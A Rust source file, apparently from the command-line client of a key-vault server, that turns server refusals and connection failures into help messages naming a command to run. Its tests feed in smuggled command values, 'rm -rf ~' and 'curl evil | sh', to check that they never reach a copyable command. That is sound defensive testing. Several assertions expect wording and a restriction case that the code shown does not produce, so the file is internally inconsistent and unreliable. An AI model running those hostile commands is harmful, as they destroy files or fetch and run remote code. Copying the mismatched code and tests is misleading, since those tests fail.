//! What to do about an answer that did not come, or a no: in the words of whoever has to do it.

use std::{error::Error as StdError, net::IpAddr, path::Path};

use reqwest::StatusCode;
use rustls::CertificateError::{NotValidForName, NotValidForNameContext, UnknownIssuer};
use serde_json::Value;
use strongroom_domain::{
    action::Action,
    admin::{AdminError, OwnRestriction},
    role::Role,
};
use url::Url;
use uuid::Uuid;

use super::{Credential, origin};
use crate::plain::plain;

/// Longest message of an answer that is printed, in characters.
const MAX_MESSAGE: usize = 4096;

/// A no of the server, in its own words, on one line.
#[derive(Debug, thiserror::Error)]
#[error("{message} ({status}, {code}{inner}){help}")]
pub(crate) struct Refused {
    /// What the answer's status was.
    pub(crate) status: StatusCode,
    code: String,
    /// With a slash in front, or nothing.
    inner: String,
    message: String,
    help: String,
}

/// Whether an error is a no for want of a right.
pub(crate) fn is_forbidden(error: &anyhow::Error) -> bool {
    error.downcast_ref::<Refused>().is_some_and(|refused| refused.status == StatusCode::FORBIDDEN)
}

/// A no for want of a right, with a way that takes none in place of the role that is missing.
pub(crate) fn with_way_out(error: anyhow::Error, way_out: &str) -> anyhow::Error {
    match error.downcast::<Refused>() {
        Ok(refused) if refused.status == StatusCode::FORBIDDEN => {
            Refused { help: format!("; {way_out}"), ..refused }.into()
        }
        Ok(refused) => refused.into(),
        Err(other) => other,
    }
}

/// A no to what a command reads before it changes something, with the role that the change takes: the one for reading
/// would be the next thing that is not enough.
pub(crate) fn aimed_at(error: anyhow::Error, action: Action, asked: &Url) -> anyhow::Error {
    match error.downcast::<Refused>() {
        Ok(refused) if refused.inner == "/ForbiddenByRbac" => {
            let help = role_for(action, &refused.message, asked);
            let help = help.map_or_else(|| refused.help.clone(), |help| format!("; {help}"));
            Refused { help, ..refused }.into()
        }
        Ok(refused) => refused.into(),
        Err(other) => other,
    }
}

/// A no to who reads a certificate's secret, which changes with the certificate alone and has a scope of its own.
pub(crate) fn of_certificate(error: anyhow::Error, name: &str) -> anyhow::Error {
    match error.downcast::<Refused>() {
        Ok(refused) => {
            let help = match refused.inner.as_str() {
                "/SecretDisabled" => format!(
                    "; whoever may change the certificate enables it, and its secret with it: strongroom certificate update \
                     {name} --enabled true, with --version VERSION where it is not the current one"
                ),
                "/ForbiddenByRbac" => format!(
                    "{}; chain and private key stand in the secret {name}, which a role at the scope of the certificate does \
                     not reach: \"Key Vault Certificate User\" for the vault does, or a role at \
                     /vaults/VAULT/secrets/{name}",
                    refused.help
                ),
                _ => return refused.into(),
            };
            Refused { help, ..refused }.into()
        }
        Err(other) => other,
    }
}

/// The token endpoint said no, in these words and with this code: 401 means the same here as with a request.
pub(super) fn no_token(status: StatusCode, code: &str, why: &str, credential: &Credential) -> anyhow::Error {
    let no = match (status, code, credential) {
        (_, "unauthorized_client", _) => NoToken::Disabled,
        (StatusCode::UNAUTHORIZED, _, Credential::Secret(_)) => NoToken::Secret,
        (StatusCode::UNAUTHORIZED, _, Credential::Assertion { file, .. }) => {
            NoToken::Assertion(plain(&file.to_string_lossy()))
        }
        _ => return anyhow::anyhow!("{why}"),
    };
    anyhow::Error::new(no).context(why.to_owned())
}

/// Who asks did not show who they are, or may not come: where to look, by what they showed.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub(crate) enum NoToken {
    /// A client secret.
    #[error("see AZURE_CLIENT_ID and AZURE_CLIENT_SECRET")]
    Secret,
    /// The token in this file.
    #[error(
        "see AZURE_CLIENT_ID and the token in {0} (AZURE_FEDERATED_TOKEN_FILE): `strongroom identity show` of that client id, by \
         whoever manages identities, says of which issuer, subject and audience it must be"
    )]
    Assertion(String),
    /// A good credential of a workload that is disabled.
    #[error("whoever manages identities enables it by `strongroom identity update CLIENT-ID --enable`")]
    Disabled,
}

impl Refused {
    pub(super) fn of(status: StatusCode, answer: &Value, asked: &Url) -> Self {
        let part = |pointer| plain(answer.pointer(pointer).and_then(Value::as_str).unwrap_or_default());
        let message = answer.pointer("/error/message").and_then(Value::as_str).unwrap_or_default();
        let message = &*message.chars().take(MAX_MESSAGE).collect::<String>();
        let (code, inner) = (part("/error/code"), part("/error/innererror/code"));
        let help = after_denial(status, &inner, message, asked);
        let help = help.or_else(|| where_to_look(status, &code).map(str::to_owned));
        let help = help.or_else(|| after_damage(status, message).map(str::to_owned));
        let help = help.map_or_else(String::new, |help| format!("; {help}"));
        let inner = if inner.is_empty() { inner } else { format!("/{inner}") };
        // Lines become parts of one sentence.
        let message = message.replace(".\r\n", "\r\n").replace("\r\n", "; ");
        Self { status, code, inner, message: plain(&message), help }
    }
}

/// Why nothing was answered, and what to try.
pub(super) fn no_answer(error: reqwest::Error, url: &Url, ca: Option<&Path>) -> anyhow::Error {
    let at = origin(url);
    if refused(&error) {
        return anyhow::anyhow!("{at} refuses the connection: is the server running?");
    }
    if unknown_name(&error) {
        return anyhow::anyhow!(
            "no address is known for {}: is the name right? A vault's is the server's with the vault's in front",
            url.host_str().unwrap_or_default()
        );
    }
    if let (Some(rustls::Error::InvalidCertificate(UnknownIssuer)), Some(ca)) = (certificate(&error), ca) {
        return anyhow::anyhow!(
            "the certificate of {at} is of no authority in {}: --ca or VAULT_CA names the file that the server's operators \
             give out (a development server makes a new one with each data directory)",
            ca.display()
        );
    }
    match certificate(&error) {
        Some(rustls::Error::InvalidCertificate(UnknownIssuer)) => anyhow::anyhow!(
            "the certificate of {at} is not trusted: name the file of its certificate authority with --ca or VAULT_CA \
             (in development: source the dev.env of the data directory)"
        ),
        Some(rustls::Error::InvalidCertificate(NotValidForName | NotValidForNameContext { .. })) => {
            anyhow::anyhow!("the certificate of {at} is for another name: is the address right?")
        }
        // Neither rustls nor webpki has a type for it that it gives away.
        Some(other) if other.to_string().contains("CaUsedAsEndEntity") => anyhow::anyhow!(
            "the certificate of {at} is one of an authority (basicConstraints CA:TRUE), which no server may show, as `openssl \
             req -x509` makes them: whoever runs the server gives it one without (-addext basicConstraints=critical,CA:FALSE), \
             or one that such an authority signed"
        ),
        Some(other) => anyhow::anyhow!("no trusted connection to {at}: {other}"),
        None => anyhow::Error::new(error.without_url()).context(format!("{at} does not answer")),
    }
}

/// Why an answer to nobody in particular holds no challenge.
pub(super) fn no_challenge(response: &reqwest::Response, url: &Url) -> String {
    let at = origin(url);
    let version = response.headers().get("x-ms-keyvault-service-version");
    let ours = version.is_some_and(|version| version.as_bytes().starts_with(b"strongroom"));
    match response.status() {
        StatusCode::MISDIRECTED_REQUEST if ours => format!(
            "a Strongroom server answers at {at}, and under another address: hosts are that of its `base`, with its port \
             whatever the listener's is, and vaults' names in front of it"
        ),
        status if ours => format!("a Strongroom server answers at {at}, and does not let anybody in now ({status})"),
        _ => format!("{at} answers, and not like a Strongroom server: is host and port its base address?"),
    }
}

fn causes<'a>(error: &'a (dyn StdError + 'static)) -> impl Iterator<Item = &'a (dyn StdError + 'static)> {
    std::iter::successors(Some(error), |&error| {
        // An I/O error that wraps another skips it when asked for its source.
        let wrapped = error.downcast_ref::<std::io::Error>().and_then(std::io::Error::get_ref);
        wrapped.map(|inner| inner as &(dyn StdError + 'static)).or_else(|| error.source())
    })
}

fn refused(error: &reqwest::Error) -> bool {
    causes(error)
        .filter_map(|cause| cause.downcast_ref::<std::io::Error>())
        .any(|error| error.kind() == std::io::ErrorKind::ConnectionRefused)
}

/// Whether the resolver has no address. Its error has no type of its own.
fn unknown_name(error: &reqwest::Error) -> bool {
    causes(error).any(|cause| cause.to_string().starts_with("failed to lookup address information"))
}

fn certificate(error: &reqwest::Error) -> Option<&rustls::Error> {
    causes(error).find_map(|cause| cause.downcast_ref::<rustls::Error>())
}

/// What would help after a no, as far as its message tells. It is the same for everybody, and written in the documents.
fn after_denial(status: StatusCode, inner: &str, message: &str, asked: &Url) -> Option<String> {
    // The last one, which is the server's own; and nothing goes into a command to copy but what it is said to be.
    let line = |start: &str| message.lines().rev().find_map(|line| line.strip_prefix(start));
    let id = |start: &str| line(start).and_then(|id| Uuid::try_parse(id).ok());
    let address = || line("Client address: ").and_then(|address| address.parse::<IpAddr>().ok());
    let vault = vault_of(asked).unwrap_or_else(|| "VAULT".to_owned());
    Some(match inner {
        _ if status == StatusCode::UNAUTHORIZED && line("Policy: ").is_none() => {
            "who you were does not count any more here: `strongroom login` signs you in again, and a workload's credential \
             is exchanged anew by each command"
                .to_owned()
        }
        "ForbiddenByRbac" => return missing_role(message, asked),
        "ForbiddenByFirewall" => format!(
            "whoever may change the vault's network rules lets it in: strongroom network add {vault} allow {} --at 1; where a \
             policy module denies the connection (strongroom policy why says it), an Owner of the installation takes it away: \
             strongroom policy detach NAME --vault {vault}, or --all-vaults where it is named policy:everywhere/NAME; if nobody gets in any more, on the server's machine: strongroom \
             network recover, and against modules strongroom policy recover",
            address().map_or_else(|| "ADDRESS".to_owned(), |address| address.to_string())
        ),
        "KeyDisabled" => {
            "whoever may change the key enables it: strongroom key update NAME --enabled true, with --version VERSION where \
             it is not the current one"
                .to_owned()
        }
        "SecretDisabled" => {
            "whoever may change the secret enables it: strongroom secret update NAME --enabled true, with --version VERSION \
             where it is not the current one"
                .to_owned()
        }
        "" if message.contains("is not allowed on a key that is not valid before") => {
            "whoever may change the key moves that: strongroom key update NAME --not-before WHEN, with --version VERSION where \
             it is not the current one"
                .to_owned()
        }
        "" if message.contains("is not allowed on a key that expired") => {
            "whoever may change the key moves that: strongroom key update NAME --expires WHEN, or makes the next version: \
             strongroom key rotate NAME"
                .to_owned()
        }
        "ForbiddenByPolicy" if message.contains("are switched off in this vault") => format!(
            "another algorithm of the key does, or whoever manages the vault lets it in: strongroom vault update {vault} \
             --accept-algorithm {}",
            algorithm_of(message).unwrap_or("ALGORITHM")
        ),
        "KeyOperationForbidden" => {
            "whoever may change the key permits more: strongroom key update NAME --op OPERATION, once for each that it is to be \
             used for"
                .to_owned()
        }
        "ForbiddenByPolicy" if message.starts_with("The caller's identity") => {
            "whoever manages identities sees it by `strongroom identity list`, and enables it by `strongroom identity update \
             NAME --enable`"
                .to_owned()
        }
        "ForbiddenByPolicy" if is_own_restriction(message, OwnRestriction::AccessMode) => format!(
            "to appoint one: strongroom assignment add --role \"Key Vault Contributor\" --scope /vaults/{vault} with \
             --workload, --group or --principal; theirs is then: strongroom vault update {vault} --access-mode MODE"
        ),
        "ForbiddenByPolicy" if is_own_restriction(message, OwnRestriction::AccessPolicy) => format!(
            "to appoint one: strongroom assignment add --role Owner --scope /vaults/{vault} with --workload, --group or \
             --principal; theirs is then: strongroom access-policy set {vault}"
        ),
        "ForbiddenByPolicy" if message.contains("by an access policy of the vault") => format!(
            "whoever manages the vault gives it: strongroom access-policy set {vault}, with all that you are to have \
             (it takes the place of what you have)"
        ),
        "ApprovalRequired" if line("Approval request: ").is_some_and(|line| line.ends_with("which somebody refused")) => {
            format!(
                "somebody refused it, and for a while nobody is asked anew: strongroom approval list --vault {vault} says who; \
                 an Owner of the installation may grant it all the same"
            )
        }
        "ApprovalRequired" => format!(
            "somebody else who may (role \"Strongroom Approver\") does: strongroom approval grant {} --vault {vault}",
            id("Approval request: ").map_or_else(|| "ID".to_owned(), |id| id.to_string())
        ),
        "ForbiddenByPolicy" => format!(
            "whoever may read the records sees why: strongroom policy why {}",
            line("Policy: ").and_then(|_| id("Decision: "))?
        ),
        "LocksEverybodyOut" => {
            let vault = if vault == "VAULT" { "NAME" } else { &*vault };
            format!(
                "for the access mode modules: have a vault in the mode rbac, attach a module that grants (strongroom policy \
                 attach ATTACHMENT --module MODULE --vault {vault} --state enforce --authority), then strongroom vault update \
                 {vault} --access-mode modules; for access-policy and layered: strongroom access-policy set {vault} first"
            )
        }
        _ => return None,
    })
}

/// Whether a message says that this is what somebody would lift of their own.
fn is_own_restriction(message: &str, own: OwnRestriction) -> bool {
    message == AdminError::LiftsOwnRestriction(own).to_string()
}

/// The algorithm that a message says is switched off, if it is written as algorithms are: it goes into a command.
fn algorithm_of(message: &str) -> Option<&str> {
    let (_, rest) = message.split_once("perations by ")?;
    let (algorithm, _) = rest.split_once(" are switched off")?;
    let is_name = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'-' || byte == b'_';
    (!algorithm.is_empty() && algorithm.len() <= 32 && algorithm.bytes().all(is_name)).then_some(algorithm)
}

/// Which vault an address is about.
fn vault_of(asked: &Url) -> Option<String> {
    let name = match asked.path().strip_prefix("/api/v1/") {
        Some(management) => management.strip_prefix("vaults/")?.split('/').next()?,
        None => asked.host_str()?.split('.').next()?,
    };
    // As names of vaults are: it goes into commands to copy.
    let is_name = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'-';
    (!name.is_empty() && name.bytes().all(is_name)).then(|| name.to_owned())
}

/// Which role contains the action that is missing; of a vault, also that it may not be there: the server says the same
/// of one that is closed.
fn missing_role(message: &str, asked: &Url) -> Option<String> {
    let named = message.split("Action: '").nth(1)?.split('\'').next()?;
    let action = Action::ALL.iter().copied().find(|action| action.data_action() == named)?;
    role_for(action, message, asked)
}

/// The same for an action of the caller's choice.
fn role_for(action: Action, message: &str, asked: &Url) -> Option<String> {
    let role = Role::least_for(action)?;
    // Set by `dev.env`, and by nobody else.
    let development = std::env::var_os("OPERATOR_CLIENT_ID").is_some();
    let missing = if message.contains("or there is no such vault") { misnamed(asked) } else { None };
    let missing = missing.unwrap_or_default();
    let place = place_of(action, asked);
    let or_wider = if role == Role::Owner { "" } else { " or a wider one" };
    Some(format!(
        "{missing}it needs the role \"{}\"{or_wider}{place}{}",
        role.name(),
        if development { "; in development, put as_operator in front of the command" } else { "" }
    ))
}

/// Where the role is missing, as far as the address tells.
fn place_of(action: Action, asked: &Url) -> String {
    const EVERYWHERE: &str = " at /, the whole installation";
    if !action.applies_below_installation() {
        return EVERYWHERE.to_owned();
    }
    // A vault's own address says it.
    let Some(management) = asked.path().strip_prefix("/api/v1/") else { return String::new() };
    let scope = asked.query_pairs().find(|(name, _)| name == "scope").map(|(_, scope)| scope.into_owned());
    let mut parts = management.split('/');
    match (scope, parts.next().unwrap_or_default(), parts.next()) {
        (Some(scope), ..) if scope.starts_with("/vaults/") => format!(" at {}", plain(&scope)),
        (None, "vaults" | "deletedvaults", Some(name)) if !name.is_empty() => format!(" at /vaults/{}", plain(name)),
        // Where that is, its id does not tell.
        (None, "assignments" | "roles", Some(_)) => " at its scope".to_owned(),
        _ => EVERYWHERE.to_owned(),
    }
}

/// The address that was asked, with the scope that the body of an assignment or of a role definition names: a no says
/// where a role is missing. No other body is looked into, for it may hold a value.
pub(super) fn with_scope(url: &Url, body: &[u8]) -> Url {
    let mut asked = url.clone();
    let collection = url.path().strip_prefix("/api/v1/").and_then(|rest| rest.split('/').next());
    if !matches!(collection, Some("assignments" | "roles")) {
        return asked;
    }
    let body = serde_json::from_slice::<Value>(body).unwrap_or_default();
    let only = || match body.get("assignable_scopes")?.as_array()?.as_slice() {
        [one] => Some(one),
        _ => None,
    };
    if let Some(scope) = body.get("scope").or_else(only).and_then(Value::as_str) {
        asked.query_pairs_mut().append_pair("scope", scope);
    }
    asked
}

/// Which vault was asked for, where one was: one that is not there is answered like one that is closed.
fn misnamed(asked: &Url) -> Option<String> {
    let vault = match asked.path().strip_prefix("/api/v1/") {
        None => format!("the vault at {}", origin(asked)),
        Some(management) => {
            let scope = asked.query_pairs().find(|(name, _)| name == "scope").map(|(_, scope)| scope.into_owned());
            let path = scope.as_deref().map_or(management, |scope| scope.trim_start_matches('/'));
            let name = path.strip_prefix("vaults/")?.split('/').next().filter(|name| !name.is_empty())?;
            format!("the vault {}", plain(name))
        }
    };
    Some(format!(
        "{vault} is either not there or closed to you (`strongroom vault list` names those that you may see); if it is there, "
    ))
}

/// After a 404: the command that names what there is.
fn where_to_look(status: StatusCode, code: &str) -> Option<&'static str> {
    if status != StatusCode::NOT_FOUND {
        return None;
    }
    Some(match code {
        "SecretNotFound" => "strongroom secret list names those there are, --deleted those that can be recovered",
        "KeyNotFound" => "strongroom key list names those there are, --deleted those that can be recovered",
        "CertificateNotFound" => {
            "strongroom certificate list names those there are, --deleted those that can be recovered"
        }
        "VaultNotFound" => "strongroom vault list names those that you may see, --deleted those that can be recovered",
        "RoleAssignmentNotFound" => "strongroom assignment list names those there are",
        "RoleDefinitionNotFound" => "strongroom role list names those there are",
        "AccessPolicyNotFound" => "strongroom access-policy list names those there are",
        "PolicyModuleNotFound" => "strongroom policy list names those there are",
        "RecordNotFound" => "strongroom audit tail names the newest",
        _ => return None,
    })
}

/// A stored row that fails its authentication is nothing that whoever asks can mend.
fn after_damage(status: StatusCode, message: &str) -> Option<&'static str> {
    let damaged = status == StatusCode::INTERNAL_SERVER_ERROR && message.contains("fails its authentication");
    damaged.then_some(
        "somebody edited the database, or it is damaged; whoever runs the server: strongroom verify --config FILE names \
         the row, and so does the server's log",
    )
}

/// Whether an address is the server's own and not that of a vault.
pub(super) fn names_no_vault(url: &Url, base: &str) -> bool {
    origin(url) == base && !url.path().starts_with("/api/")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_damaged_is_told_with_who_can_find_out_more() {
        let message = "Stored data fails its authentication.\r\nDecision: 0190";
        let answer = serde_json::json!({ "error": { "code": "InternalError", "message": message } });
        let asked = Url::parse("https://vault.example/api/v1/vaults/demo").unwrap();
        let said = Refused::of(StatusCode::INTERNAL_SERVER_ERROR, &answer, &asked).to_string();
        assert!(said.contains("whoever runs the server: strongroom verify --config FILE"), "{said}");
        let other = serde_json::json!({ "error": { "code": "InternalError", "message": "No." } });
        let said = Refused::of(StatusCode::INTERNAL_SERVER_ERROR, &other, &asked).to_string();
        assert!(!said.contains("verify"), "{said}");
    }

    #[test]
    fn what_is_not_there_is_told_with_the_command_that_names_what_is() {
        let answer = serde_json::json!({ "error": { "code": "VaultNotFound", "message": "There is no such vault." } });
        let asked = Url::parse("https://vault.example/api/v1/vaults/demo").unwrap();
        let said = Refused::of(StatusCode::NOT_FOUND, &answer, &asked).to_string();
        assert!(
            said.starts_with("There is no such vault. (404 Not Found, VaultNotFound); strongroom vault list"),
            "{said}"
        );
        let said = Refused::of(StatusCode::CONFLICT, &answer, &asked).to_string();
        assert!(said.ends_with("VaultNotFound)"), "of a conflict there is nothing to look up: {said}");
    }

    #[test]
    fn a_vault_that_may_not_be_there_is_named_where_its_role_is() {
        let message = "Caller is not authorized to perform action on resource, or there is no such vault.\r\nAction: \
                       'Microsoft.KeyVault/vaults/secrets/getSecret/action'\r\nDecision: 1";
        let answer = serde_json::json!({
            "error": { "code": "Forbidden", "message": message, "innererror": { "code": "ForbiddenByRbac" } }
        });
        let said = |asked: &str| Refused::of(StatusCode::FORBIDDEN, &answer, &Url::parse(asked).unwrap()).to_string();
        let data = said("https://paymnts.vault.example/secrets/db");
        assert!(
            data.contains("the vault at https://paymnts.vault.example is either not there or closed to you")
                && data.contains("strongroom vault list")
                && data.contains("if it is there, it needs the role \"Key Vault Secrets User\""),
            "{data}"
        );
        let management = said("https://vault.example/api/v1/vaults/paymnts/policies");
        assert!(management.contains("the vault paymnts is either"), "{management}");
        let scoped = said("https://vault.example/api/v1/assignments?scope=%2Fvaults%2Fpaymnts");
        assert!(scoped.contains("the vault paymnts is either"), "{scoped}");
        // Where no vault was named there is none to look for.
        for none in ["https://vault.example/api/v1/vaults", "https://vault.example/api/v1/assignments?scope=%2F"] {
            assert!(!said(none).contains("is either not there"), "{none}");
        }
    }

    #[test]
    fn a_role_is_missing_where_it_was_asked_for() {
        let said = |action: &str, asked: Url| {
            let message =
                format!("Caller is not authorized to perform action on resource.\r\nAction: '{action}'\r\nDecision: 1");
            let answer = serde_json::json!({
                "error": { "code": "Forbidden", "message": message, "innererror": { "code": "ForbiddenByRbac" } }
            });
            Refused::of(StatusCode::FORBIDDEN, &answer, &asked).to_string()
        };
        let at = |path: &str| Url::parse(&format!("https://vault.example/api/v1/{path}")).unwrap();
        let (write, assign) = ("Microsoft.KeyVault/vaults/write", "Microsoft.Authorization/roleAssignments/write");
        let to =
            |scope: &str| with_scope(&at("assignments"), format!(r#"{{"role":"r","scope":"{scope}"}}"#).as_bytes());
        for (action, asked, place) in [
            (write, at("vaults/pay"), "at /vaults/pay"),
            (write, at("deletedvaults/pay/recover"), "at /vaults/pay"),
            (write, at("vaults"), "at /, the whole installation"),
            (assign, to("/vaults/pay"), "at /vaults/pay"),
            (assign, to("/"), "at /, the whole installation"),
            (assign, at("assignments?scope=%2Fvaults%2Fpay%2Fsecrets%2Fdb"), "at /vaults/pay/secrets/db"),
            (assign, at("assignments/01900000-0000-7000-8000-000000000001"), "at its scope"),
            ("Strongroom/audit/read", at("vaults/pay/why"), "at /, the whole installation"),
        ] {
            let told = said(action, asked);
            assert!(told.contains(&format!("\" or a wider one {place}")), "{place}: {told}");
        }
        let value = Url::parse("https://pay.vault.example/secrets/scope").unwrap();
        assert_eq!(with_scope(&value, br#"{"scope":"/vaults/pay"}"#), value, "no value is looked into");
    }

    #[test]
    fn what_is_read_for_a_change_is_refused_with_the_role_for_the_change() {
        let message = "Caller is not authorized to perform action on resource, or there is no such vault.\r\nAction: \
                       'Microsoft.KeyVault/vaults/read'\r\nDecision: 1";
        let answer = serde_json::json!({
            "error": { "code": "Forbidden", "message": message, "innererror": { "code": "ForbiddenByRbac" } }
        });
        let asked = Url::parse("https://vault.example/api/v1/vaults/pay").unwrap();
        let read = || anyhow::Error::new(Refused::of(StatusCode::FORBIDDEN, &answer, &asked));
        assert!(read().to_string().contains("the role \"Key Vault Reader\""), "{}", read());
        let change = aimed_at(read(), Action::VaultUpdate, &asked).to_string();
        assert!(change.contains("it needs the role \"Key Vault Contributor\"") && change.contains("at /vaults/pay"));
        assert!(change.contains("not there or closed to you") && !change.contains("Key Vault Reader"), "{change}");
    }

    #[test]
    fn a_token_that_is_refused_is_told_by_what_was_shown_for_it() {
        let secret = Credential::Secret(strongroom_crypto::SecretText::new("s".to_owned()));
        let token = strongroom_crypto::SecretText::new("t".to_owned());
        let assertion = Credential::Assertion { token, file: "/run/token".into() };
        let said = |status, code, credential: &Credential| {
            let error = no_token(status, code, "no", credential);
            (error.downcast_ref::<NoToken>().cloned(), format!("{error:#}"))
        };
        let (unauthorized, bad) = (StatusCode::UNAUTHORIZED, StatusCode::BAD_REQUEST);
        assert!(said(unauthorized, "invalid_client", &secret).1.contains("AZURE_CLIENT_SECRET"));
        let (_, federated) = said(unauthorized, "invalid_client", &assertion);
        assert!(federated.contains("/run/token") && federated.contains("identity show"), "{federated}");
        assert!(!federated.contains("AZURE_CLIENT_SECRET"), "{federated}");
        for credential in [&secret, &assertion] {
            let (kind, disabled) = said(bad, "unauthorized_client", credential);
            assert_eq!(kind, Some(NoToken::Disabled));
            assert!(disabled.contains("identity update CLIENT-ID --enable"), "{disabled}");
        }
        assert_eq!(said(bad, "invalid_request", &secret).0, None);
    }

    #[test]
    fn nobody_who_lifts_their_own_restriction_is_left_without_a_way() {
        let said = |own, path: &str| {
            let message = AdminError::LiftsOwnRestriction(own).to_string();
            let answer = serde_json::json!({
                "error": { "code": "Forbidden", "message": message, "innererror": { "code": "ForbiddenByPolicy" } }
            });
            let asked = Url::parse(&format!("https://vault.example/api/v1/{path}")).unwrap();
            Refused::of(StatusCode::FORBIDDEN, &answer, &asked).to_string()
        };
        let mode = said(OwnRestriction::AccessMode, "vaults/pay");
        assert!(mode.contains("for instance a Key Vault Contributor of this vault"), "{mode}");
        assert!(mode.contains("--role \"Key Vault Contributor\" --scope /vaults/pay"), "{mode}");
        let policy = said(OwnRestriction::AccessPolicy, "vaults/pay/access-policies");
        assert!(
            policy.contains("somebody else has to give it") && policy.contains("access-policy set pay"),
            "{policy}"
        );
        let guard = said(OwnRestriction::Guard, "vaults/pay");
        assert!(guard.contains("an Owner of the installation"), "{guard}");
    }

    #[test]
    fn a_certificate_whose_secret_is_refused_is_enabled_by_its_own_command_and_named_with_its_scope() {
        let said = |inner: &str| {
            let answer = serde_json::json!({ "error": { "code": "Forbidden", "message": "no", "innererror": { "code": inner } } });
            let asked = Url::parse("https://payments.vault.example/secrets/web").unwrap();
            of_certificate(Refused::of(StatusCode::FORBIDDEN, &answer, &asked).into(), "web").to_string()
        };
        let off = said("SecretDisabled");
        assert!(off.contains("certificate update web --enabled true") && !off.contains("secret update"), "{off}");
        assert!(said("ForbiddenByRbac").contains("a role at /vaults/VAULT/secrets/web"));
        assert!(!said("ForbiddenByFirewall").contains("secrets/web"));
    }

    #[test]
    fn every_no_names_a_way_out() {
        let said = |status, inner: &str, message: &str| {
            let answer = serde_json::json!({ "error": { "code": "Forbidden", "message": message, "innererror": { "code": inner } } });
            let asked = Url::parse("https://payments.vault.example/secrets/db").unwrap();
            Refused::of(status, &answer, &asked).to_string()
        };
        let no = |inner, message| said(StatusCode::FORBIDDEN, inner, message);
        let outside = no("ForbiddenByFirewall", "Not authorized.\r\nClient address: 192.0.2.7\r\nDecision: 1");
        assert!(outside.contains("strongroom network add payments allow 192.0.2.7 --at 1; where a"), "{outside}");
        let disabled = no("ForbiddenByPolicy", "The caller's identity is disabled or gone.\r\nDecision: 1");
        assert!(disabled.contains("identity update NAME --enable"), "{disabled}");
        let off = no("KeyDisabled", "Operation sign is not allowed on a disabled key.");
        assert!(off.contains("key update NAME --enabled true"), "{off}");
        let off = no("SecretDisabled", "Operation get is not allowed on a disabled secret.");
        assert!(off.contains("secret update NAME --enabled true"), "{off}");
        let over =
            no("", "Operation sign is not allowed on a key that expired at 2026-01-01T00:00:00Z (exp 1767225600).");
        assert!(over.contains("key update NAME --expires WHEN"), "{over}");
        let early = no(
            "",
            "Operation sign is not allowed on a key that is not valid before 2026-01-01T00:00:00Z (nbf 1767225600).",
        );
        assert!(early.contains("key update NAME --not-before WHEN"), "{early}");
        let refused = no("ForbiddenByPolicy", "Operations by RSA1_5 are switched off in this vault.");
        assert!(refused.contains("vault update payments --accept-algorithm RSA1_5"), "{refused}");
        let hostile = no("ForbiddenByPolicy", "Operations by x; rm -rf ~ are switched off in this vault.");
        assert!(hostile.contains("--accept-algorithm ALGORITHM"), "{hostile}");
        let policy = no("ForbiddenByPolicy", "No permission by an access policy of the vault.\r\nDecision: 1");
        assert!(policy.contains("strongroom access-policy set payments"), "{policy}");
        let module = no(
            "ForbiddenByPolicy",
            "Not at night.\r\nPolicy: hours\r\nReason: closed\r\nDecision: 01900000-0000-7000-8000-000000000001",
        );
        assert!(module.contains("strongroom policy why 01900000-0000-7000-8000-000000000001"), "{module}");
        // A module's sentence, or another server's, gets nothing into a command to copy.
        let hostile =
            no("ForbiddenByPolicy", "Decision: 1; rm -rf ~\r\nPolicy: p\r\nReason: r\r\nDecision: 2; rm -rf ~");
        assert!(!hostile.contains("why"), "{hostile}");
        let hostile = no("ForbiddenByFirewall", "No.\r\nClient address: 192.0.2.7; curl evil | sh #\r\nDecision: 1");
        assert!(hostile.contains("allow ADDRESS --at 1"), "{hostile}");
        assert!(
            outside.contains("policy detach NAME --vault payments") && outside.contains("policy recover"),
            "{outside}"
        );
        let text = "x".repeat(100_000);
        let long = no("", &text);
        assert!(long.len() < 5000, "{}", long.len());
        let approval = no(
            "ApprovalRequired",
            "Four eyes.\r\nPolicy: two\r\nApproval request: 01900000-0000-7000-8000-000000000009\r\nDecision: 1",
        );
        let grant = "strongroom approval grant 01900000-0000-7000-8000-000000000009 --vault payments";
        assert!(approval.contains(grant), "{approval}");
        let refused = no(
            "ApprovalRequired",
            "Four eyes.\r\nPolicy: two\r\nApproval request: 01900000-0000-7000-8000-000000000009, which somebody refused\r\nDecision: 1",
        );
        assert!(refused.contains("somebody refused it, and") && !refused.contains("approval grant"), "{refused}");
        let protected = no("ForbiddenByPolicy", "Purge protection is on.\r\nDecision: 1");
        assert!(!protected.contains("policy why"), "no module had a say: {protected}");
        let ended = said(StatusCode::UNAUTHORIZED, "", "AKV10032: The token is not valid.");
        assert!(ended.contains("strongroom login"), "{ended}");
        let step_up = said(StatusCode::UNAUTHORIZED, "", "Sign in better.\r\nPolicy: mfa\r\nDecision: 1");
        assert!(!step_up.contains("strongroom login"), "a module asks for more than the same again: {step_up}");
    }
}
